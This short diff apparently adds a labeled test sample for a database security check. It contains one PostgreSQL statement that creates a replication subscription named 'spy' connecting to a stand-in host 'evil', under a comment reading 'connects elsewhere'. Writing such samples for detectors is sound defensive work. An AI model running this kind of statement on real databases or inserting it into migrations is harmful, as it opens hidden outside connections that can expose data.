@@ -1,0 +1,2 @@
+-- control: none: connects elsewhere
+CREATE SUBSCRIPTION spy CONNECTION 'host=evil' PUBLICATION p
